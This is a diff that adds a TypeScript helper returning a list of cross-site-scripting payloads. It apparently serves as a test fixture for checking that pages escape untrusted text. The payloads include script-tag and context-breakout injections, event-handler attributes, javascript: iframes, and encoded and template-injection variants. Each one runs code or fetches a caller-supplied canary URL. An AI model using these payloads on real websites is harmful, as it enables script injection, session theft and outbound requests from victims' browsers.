@@ -1,0 +1,38 @@
+/** Texts that run, or call out to `canary`, where a page takes them for more than text. */
+export function makeHostileMarkup(canary: string): string[] {
+  const run = `window.__pwn=1;fetch('${canary}/run')`
+  return [
+    `<script>${run}</script>`,
+    `</script><script>${run}</script>`,
+    `</title></style></textarea><script>${run}</script>`,
+    `--><script>${run}</script>`,
+    `]]><script>${run}</script>`,
+    `<img src=x onerror="${run}">`,
+    `"><img src=x onerror="${run}">`,
+    `'><img src=x onerror="${run}">`,
+    `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
+    `' autofocus onfocus='${run.replaceAll("'", '&apos;')}' x='`,
+    `<svg onload="${run}">`,
+    `<svg><script>${run}</script></svg>`,
+    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
+    `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
+    `<iframe srcdoc="<script>${run.replaceAll('"', '&quot;')}</script>"></iframe>`,
+    `<iframe src="javascript:${run}"></iframe>`,
+    `<object data="${canary}/object"></object>`,
+    `<embed src="${canary}/embed">`,
+    `<link rel="stylesheet" href="${canary}/css">`,
+    `<style>@import '${canary}/import';</style>`,
+    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
+    `<base href="${canary}/">`,
+    `<form action="${canary}"><button autofocus>x</button></form><script>${run}</script>`,
+    `<details open ontoggle="${run}">`,
+    `<video><source onerror="${run}"></video>`,
+    `<body onload="${run}">`,
+    `<template><script>${run}</script></template><script>${run}</script>`,
+    `\u003cscript\u003e${run}\u003c/script\u003e`,
+    `&lt;script&gt;${run}&lt;/script&gt;`,
+    `%3Cscript%3E${run}%3C/script%3E`,
+    `<scr\0ipt>${run}</scr\0ipt><script\n>${run}</script\t>`,
+    '${`${window.__pwn=1}`}{{constructor.constructor("window.__pwn=1")()}}',
+  ]
+}
